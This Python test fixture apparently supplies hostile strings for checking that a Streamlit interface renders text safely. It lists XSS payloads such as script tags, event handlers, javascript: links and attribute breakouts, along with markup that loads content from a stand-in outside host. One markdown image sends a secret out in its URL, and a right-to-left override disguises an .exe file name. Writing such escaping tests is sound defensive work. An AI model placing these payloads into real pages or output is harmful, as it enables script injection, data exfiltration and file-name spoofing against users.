"""Texts that would do harm if a page took them for anything but text; and some that only look odd.

Each stands for a way out: script, markup, pictures that tell somebody, links that run, what
Streamlit's Markdown makes of text, and signs that mislead the eye.
"""

OUTSIDE = "https://outside.test"

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "image handler": "<img src=x onerror=alert(2)>",
    "svg handler": "<svg onload=alert(3)>",
    "srcdoc": '<iframe srcdoc="<script>parent.alert(4)</script>"></iframe>',
    "iframe": f'<iframe src="{OUTSIDE}/frame"></iframe>',
    "object": f'<object data="{OUTSIDE}/object"></object>',
    "form": f'<form action="{OUTSIDE}/form"><button>send</button></form>',
    "style": f"<style>@import url({OUTSIDE}/style.css); body{{display:none}}</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:red">over all</div>',
    "css url": f'<b style="background:url({OUTSIDE}/css.png)">bold</b>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={OUTSIDE}/meta">',
    "base": f'<base href="{OUTSIDE}/">',
    "html image": f'<img src="{OUTSIDE}/html.png">',
    "markdown image": f"![x]({OUTSIDE}/markdown.png?d=SECRET)",
    "markdown link": f"[click]({OUTSIDE}/phish)",
    "javascript link": "[click](javascript:alert(5))",
    "data link": "[click](data:text/html,<script>alert(6)</script>)",
    "reference image": f"![x][1]\n\n[1]: {OUTSIDE}/reference.png",
    "autolink": f"<{OUTSIDE}/auto> and www.outside.test and me@outside.test",
    "heading": "# Not a heading of this page",
    "mermaid": "```mermaid\ngraph TD; A-->B\n```",
    "mathematics": r"$\href{javascript:alert(7)}{x}$ costs $5 and $10",
    "icon": ":material/delete: :streamlit: :smile:",
    "colour": ":red[warning] :blue-background[x] :small[y]",
    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h",
    "table": "| a | b |\n| - | - |\n| 1 | <b>2</b> |",
    "end of element": "</p></article></details></section></div><h1>taken over</h1>",
    "attribute": "\" onfocus=alert(8) autofocus x=\"' onclick='alert(9)",
    "entities": "&lt;script&gt;alert(10)&lt;/script&gt; &amp; &#x27;",
    "footnote": f'[^1] [1]: {OUTSIDE}/x "t" [2] [?] [[3]] 【4】',
    "template": "{{7*7}} ${7*7} {0} {name} %s",
    "reversed": "invoice\u202efdp.exe and \u2066hidden\u2069",
    "right to left": "שלום עולם مرحبا",
    "emoji and Chinese": "👩‍🚀 晚钟是什么声音？ 𝒳 ﬁ",
    "long word": "m" * 300,
    "backslashes": r"\\ \* \` \<b\> C:\new\table",
    "listing": "- one\n- two\n1. three\n    code",
    "html comment": "<!-- <img src=x onerror=alert(11)> -->",
}
